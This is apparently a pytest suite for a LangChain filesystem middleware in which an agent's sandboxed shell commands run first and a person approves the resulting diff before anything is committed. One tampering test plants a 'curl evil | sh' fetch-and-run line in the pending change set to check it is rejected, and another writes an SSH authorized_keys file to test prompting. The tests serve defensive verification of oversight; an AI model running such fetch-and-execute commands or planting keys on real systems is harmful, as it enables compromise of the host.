"""Approval by effect: in `default` mode a contained command runs first, a person approves
what it changed, and only then is anything kept (through `create_agent`, a scripted model
and a checkpointer; resumed by the same agent, another agent, or too late)."""

from __future__ import annotations

import base64
import contextlib
import os
import shutil
import tempfile
import threading
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from langchain.agents import create_agent
from langchain_core.messages import AIMessage, ToolMessage
from langgraph.checkpoint.memory import InMemorySaver
from langgraph.types import Command

from langchain_fstools import FilesystemMiddleware, LocalBackend
from langchain_fstools.shell.sandbox.sandbox import Sandbox, find_bwrap
from langchain_fstools.testing import ScriptedChatModel

pytestmark = pytest.mark.skipif(find_bwrap() is None, reason="needs bubblewrap")

CONFIG: Any = {"configurable": {"thread_id": "t"}}


@pytest.fixture
def root(tmp_path: Path) -> Path:
    folder = tmp_path / "workspace"
    folder.mkdir()
    (folder / "a.txt").write_text("old\n")
    return folder


def agent(root: Path, command: str, saver: InMemorySaver, **middleware: Any) -> Any:
    call = AIMessage(
        content="", tool_calls=[{"name": "execute", "args": {"command": command}, "id": "c1"}]
    )
    model = ScriptedChatModel(turns=[call, AIMessage(content="done")])
    files = FilesystemMiddleware(
        backend=LocalBackend(root, execute=True),
        mode=middleware.pop("mode", "default"),
        **middleware,
    )
    return create_agent(model, middleware=[files], checkpointer=saver)


def kept_set(graph: Any, call_id: str = "c1") -> Path:
    """The folder where the set of `call_id` waits (the key its review carries)."""
    key = graph.get_state(CONFIG).values["command_reviews"][call_id]["key"]
    return Path(tempfile.gettempdir()) / f"fstools-pending-{os.getuid()}" / key


def result_of(graph: Any) -> ToolMessage:
    messages = graph.get_state(CONFIG).values["messages"]
    (found,) = [m for m in messages if isinstance(m, ToolMessage)]
    return found


def test_the_command_runs_first_and_a_person_sees_the_diff_of_its_effect(root: Path) -> None:
    graph = agent(root, "echo new > a.txt && echo n > n.txt", InMemorySaver())

    first = graph.invoke({"messages": [("user", "go")]}, CONFIG, version="v2")

    (asked,) = first.interrupts
    (request,) = asked.value["action_requests"]
    assert request["name"] == "execute"
    assert request["tool_call_id"] == "c1"
    assert "-old\n+new\n" in request["diff"]
    assert "+n\n" in request["diff"]
    assert (root / "a.txt").read_text() == "old\n"  # nothing kept before the answer
    assert not (root / "n.txt").exists()
    assert "a person decides on these changes" in str(result_of(graph).content)

    graph.invoke(Command(resume={"decisions": [{"type": "approve"}]}), CONFIG, version="v2")

    assert (root / "a.txt").read_text() == "new\n"
    assert (root / "n.txt").read_text() == "n\n"
    message = result_of(graph)
    assert message.status == "success"
    assert "A person approved these changes; they are kept." in str(message.content)
    assert "\nM /a.txt\nA /n.txt" in str(message.content)


def test_rejected_changes_are_not_kept(root: Path) -> None:
    graph = agent(root, "echo new > a.txt", InMemorySaver())
    graph.invoke({"messages": [("user", "go")]}, CONFIG, version="v2")

    decision = {"type": "reject", "message": "not now"}
    graph.invoke(Command(resume={"decisions": [decision]}), CONFIG, version="v2")

    assert (root / "a.txt").read_text() == "old\n"
    assert "A person rejected these changes with reason: not now; nothing was kept." in str(
        result_of(graph).content
    )


def test_a_command_that_changes_nothing_asks_nobody(root: Path) -> None:
    graph = agent(root, "cat a.txt", InMemorySaver())

    done = graph.invoke({"messages": [("user", "go")]}, CONFIG, version="v2")

    assert not done.interrupts
    assert str(result_of(graph).content) == "old\nExit code: 0"


def test_importing_the_projects_python_asks_nobody_and_leaves_no_cache(root: Path) -> None:
    """A bytecode cache is host-run (it asks), so commands keep theirs in the session."""
    (root / "app.py").write_text("VALUE = 42\n")
    command = "python3 -c 'import app; print(app.VALUE)' && python3 -c 'import app'"
    graph = agent(root, command, InMemorySaver())

    done = graph.invoke({"messages": [("user", "go")]}, CONFIG, version="v2")

    assert not done.interrupts
    assert str(result_of(graph).content) == "42\nExit code: 0"
    assert sorted(p.name for p in root.iterdir()) == ["a.txt", "app.py"]


def test_another_agent_on_the_same_thread_applies_the_answer(root: Path) -> None:
    saver = InMemorySaver()
    command = "echo new > a.txt"
    agent(root, command, saver).invoke({"messages": [("user", "go")]}, CONFIG, version="v2")

    other = agent(root, command, saver)  # another worker: new middleware, same checkpoints
    other.invoke(Command(resume={"decisions": [{"type": "approve"}]}), CONFIG, version="v2")

    assert (root / "a.txt").read_text() == "new\n"


def test_a_file_changed_before_the_answer_keeps_nothing(root: Path) -> None:
    graph = agent(root, "echo new > a.txt && echo n > n.txt", InMemorySaver())
    graph.invoke({"messages": [("user", "go")]}, CONFIG, version="v2")
    (root / "a.txt").write_text("theirs\n")

    graph.invoke(Command(resume={"decisions": [{"type": "approve"}]}), CONFIG, version="v2")

    assert (root / "a.txt").read_text() == "theirs\n"
    assert not (root / "n.txt").exists()
    message = result_of(graph)
    assert message.status == "error"
    assert "/a.txt changed since the command ran; nothing was kept" in str(message.content)


def test_changes_no_longer_kept_are_stale_never_something_else(root: Path) -> None:
    graph = agent(root, "echo new > a.txt", InMemorySaver())
    graph.invoke({"messages": [("user", "go")]}, CONFIG, version="v2")
    shutil.rmtree(kept_set(graph))

    graph.invoke(Command(resume={"decisions": [{"type": "approve"}]}), CONFIG, version="v2")

    assert (root / "a.txt").read_text() == "old\n"
    assert "no longer kept" in str(result_of(graph).content)


def test_a_protected_change_asks_in_default_mode_and_is_kept_when_approved(root: Path) -> None:
    graph = agent(root, "mkdir -p .ssh && echo key > .ssh/authorized_keys", InMemorySaver())

    first = graph.invoke({"messages": [("user", "go")]}, CONFIG, version="v2")
    (asked,) = first.interrupts
    assert "/.ssh/authorized_keys" in asked.value["action_requests"][0]["diff"]
    graph.invoke(Command(resume={"decisions": [{"type": "approve"}]}), CONFIG, version="v2")

    assert (root / ".ssh" / "authorized_keys").read_text() == "key\n"


def test_accept_edits_keeps_ordinary_changes_without_asking(root: Path) -> None:
    graph = agent(root, "echo new > a.txt", InMemorySaver(), mode="accept_edits")

    done = graph.invoke({"messages": [("user", "go")]}, CONFIG, version="v2")

    assert not done.interrupts
    assert (root / "a.txt").read_text() == "new\n"


@pytest.mark.parametrize("network", [True, ["pypi.org"]], ids=["whole", "allowed-domains"])
def test_a_command_with_the_network_is_asked_about_before_it_runs(
    root: Path, network: bool | list[str]
) -> None:
    call = AIMessage(
        content="",
        tool_calls=[{"name": "execute", "args": {"command": "echo x > a.txt"}, "id": "c1"}],
    )
    files = FilesystemMiddleware(
        backend=LocalBackend(root, execute=True, sandbox=Sandbox(network=network)), mode="default"
    )
    graph = create_agent(
        ScriptedChatModel(turns=[call, AIMessage(content="done")]),
        middleware=[files],
        checkpointer=InMemorySaver(),
    )

    first = graph.invoke({"messages": [("user", "go")]}, CONFIG, version="v2")

    (asked,) = first.interrupts
    assert "wants to run `echo x > a.txt`" in asked.value["action_requests"][0]["description"]
    assert (root / "a.txt").read_text() == "old\n"  # it has not run
    graph.invoke(Command(resume={"decisions": [{"type": "approve"}]}), CONFIG, version="v2")
    assert (root / "a.txt").read_text() == "x\n"  # approved before it ran: its changes kept


def test_rewind_restores_an_approved_commands_changes(root: Path) -> None:
    saver = InMemorySaver()
    call = AIMessage(
        content="",
        tool_calls=[{"name": "execute", "args": {"command": "echo new > a.txt"}, "id": "c1"}],
    )
    files = FilesystemMiddleware(
        backend=LocalBackend(root, execute=True), mode="default", history=True
    )
    graph = create_agent(
        ScriptedChatModel(turns=[call, AIMessage(content="done")]),
        middleware=[files],
        checkpointer=saver,
    )
    graph.invoke({"messages": [("user", "go")]}, CONFIG, version="v2")
    graph.invoke(Command(resume={"decisions": [{"type": "approve"}]}), CONFIG, version="v2")
    assert (root / "a.txt").read_text() == "new\n"

    assert files.rewind(graph, CONFIG, to="c1") == ["/a.txt"]

    assert (root / "a.txt").read_text() == "old\n"


def test_changes_only_to_ignored_paths_are_kept_without_asking(root: Path) -> None:
    (root / ".gitignore").write_text("build/\n*.log\n")
    command = "mkdir -p build/x && echo o > build/x/out.o && echo c > run.log"
    graph = agent(root, command, InMemorySaver())

    done = graph.invoke({"messages": [("user", "go")]}, CONFIG, version="v2")

    assert not done.interrupts
    assert (root / "build" / "x" / "out.o").read_text() == "o\n"
    assert (root / "run.log").read_text() == "c\n"


def test_a_person_is_asked_only_about_the_paths_not_ignored(root: Path) -> None:
    (root / ".gitignore").write_text("build/\n")
    graph = agent(root, "mkdir build && echo o > build/out.o && echo new > a.txt", InMemorySaver())

    first = graph.invoke({"messages": [("user", "go")]}, CONFIG, version="v2")

    (asked,) = first.interrupts
    diff = asked.value["action_requests"][0]["diff"]
    assert "/a.txt" in diff
    assert "build" not in diff


def test_approved_changes_too_large_for_the_history_say_they_cannot_be_rewound(
    root: Path,
) -> None:
    graph = agent(root, "echo more >> a.txt", InMemorySaver(), history=True, history_record_bytes=1)
    graph.invoke({"messages": [("user", "go")]}, CONFIG, version="v2")

    graph.invoke(Command(resume={"decisions": [{"type": "approve"}]}), CONFIG, version="v2")

    assert (root / "a.txt").read_text() == "old\nmore\n"
    content = str(result_of(graph).content)
    assert "A person approved these changes; they are kept." in content
    assert "cannot be rewound: the earlier content of /a.txt was too large" in content


def test_a_set_altered_after_it_was_shown_keeps_nothing(root: Path) -> None:
    graph = agent(root, "echo 'echo deploying' > deploy.sh", InMemorySaver())
    first = graph.invoke({"messages": [("user", "go")]}, CONFIG, version="v2")
    (shown,) = first.interrupts[0].value["action_requests"]
    assert "+echo deploying" in shown["diff"]
    review = graph.get_state(CONFIG).values["command_reviews"]["c1"]
    assert shown["digest"] == review["digest"]
    assert len(shown["digest"]) == 64
    (kept_set(graph) / "upper" / "deploy.sh").write_text("curl evil | sh\n")

    graph.invoke(Command(resume={"decisions": [{"type": "approve"}]}), CONFIG, version="v2")

    assert not (root / "deploy.sh").exists()
    message = result_of(graph)
    assert "no longer the ones the person was shown; nothing was kept" in str(message.content)


def test_two_calls_with_one_id_run_neither(root: Path) -> None:
    call = {"name": "execute", "args": {"command": "echo new > a.txt"}, "id": "c1"}
    turn = AIMessage(content="", tool_calls=[call, {**call, "args": {"command": "echo x > b"}}])
    model = ScriptedChatModel(turns=[turn, AIMessage(content="done")])
    files = FilesystemMiddleware(backend=LocalBackend(root, execute=True), mode="default")
    graph = create_agent(model, middleware=[files], checkpointer=InMemorySaver())

    done = graph.invoke({"messages": [("user", "go")]}, CONFIG, version="v2")

    assert not done.interrupts
    replies = [m for m in done.value["messages"] if isinstance(m, ToolMessage)]
    assert [m.status for m in replies] == ["error", "error"]
    assert all("several calls in this turn have the id c1" in str(m.content) for m in replies)
    assert (root / "a.txt").read_text() == "old\n"
    assert not (root / "b").exists()


_NAMES = st.sampled_from(["a.txt", "b.txt", "c/d.txt"])
_TAMPERING = st.sampled_from(["none", "rewrite", "append", "truncate", "chmod", "add"])


@settings(
    max_examples=12, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(
    files=st.dictionaries(_NAMES, st.binary(max_size=64), min_size=1, max_size=3),
    tampering=st.lists(_TAMPERING, min_size=1, max_size=3),
)
def test_what_is_committed_is_what_was_shown_or_nothing(
    tmp_path_factory: pytest.TempPathFactory, files: dict[str, bytes], tampering: list[str]
) -> None:
    root = tmp_path_factory.mktemp("workspace")
    (root / "a.txt").write_text("old\n")
    before = {"a.txt": b"old\n"}
    command = " && ".join(
        f"mkdir -p $(dirname {name}) && printf %s {base64.b64encode(data).decode()}"
        f" | base64 -d > {name}"
        for name, data in files.items()
    )
    graph = agent(root, command, InMemorySaver())
    graph.invoke({"messages": [("user", "go")]}, CONFIG, version="v2")
    folder = kept_set(graph)
    done = threading.Event()
    tamperer = threading.Thread(target=_tamper, args=(folder / "upper", tampering, done))
    tamperer.start()  # at work while the approval takes and commits the set
    try:
        graph.invoke(Command(resume={"decisions": [{"type": "approve"}]}), CONFIG, version="v2")
    finally:
        done.set()
        tamperer.join()

    found = {
        str(path.relative_to(root)): path.read_bytes() for path in root.rglob("*") if path.is_file()
    }
    shown = {**before, **files}
    assert found in (shown, before), result_of(graph).content
    if found == shown:
        assert all((root / name).stat().st_mode & 0o777 == 0o644 for name in files)


def _tamper(upper: Path, tampering: list[str], done: threading.Event) -> None:
    """Alter the kept set's files again and again until `done` (each step may find it gone)."""
    while not done.is_set():
        for step in tampering:
            with contextlib.suppress(OSError):
                for path in [p for p in upper.rglob("*") if p.is_file()]:
                    if step == "rewrite":
                        path.write_bytes(b"EVIL")
                    elif step == "append":
                        with path.open("ab") as file:
                            file.write(b"EVIL")
                    elif step == "truncate":
                        os.truncate(path, 0)
                    elif step == "chmod":
                        path.chmod(0o777)
                if step == "add":
                    (upper / "planted.sh").write_bytes(b"EVIL")
        time.sleep(0.001)


@pytest.fixture(params=["same file system", "another file system"])
def sparse_root(request: pytest.FixtureRequest, root: Path) -> Iterator[Path]:
    """The workspace beside the views' folders, or on another file system (a tmpfs)."""
    if request.param == "same file system":
        yield root
        return
    folder = Path(tempfile.mkdtemp(dir="/dev/shm", prefix="fstools-sparse-"))
    assert folder.stat().st_dev != Path(tempfile.gettempdir()).stat().st_dev
    try:
        yield folder
    finally:
        shutil.rmtree(folder)


def test_a_sparse_file_is_listed_not_read_and_committed_sparse(sparse_root: Path) -> None:
    """Across file systems too, where the commit copies the file: its holes stay holes."""
    root = sparse_root
    graph = agent(root, "truncate -s 2G big.bin && printf x >> big.bin", InMemorySaver())

    first = graph.invoke({"messages": [("user", "go")]}, CONFIG, version="v2")
    diff = first.interrupts[0].value["action_requests"][0]["diff"]
    graph.invoke(Command(resume={"decisions": [{"type": "approve"}]}), CONFIG, version="v2")

    assert diff == "A /big.bin (file, 2,147,483,649 bytes)\n"
    committed = (root / "big.bin").stat()
    assert committed.st_size == 2**31 + 1
    assert committed.st_blocks * 512 < 1 << 20  # still sparse
    with (root / "big.bin").open("rb") as file:
        file.seek(2**31 - 1)
        assert file.read() == b"\0x"
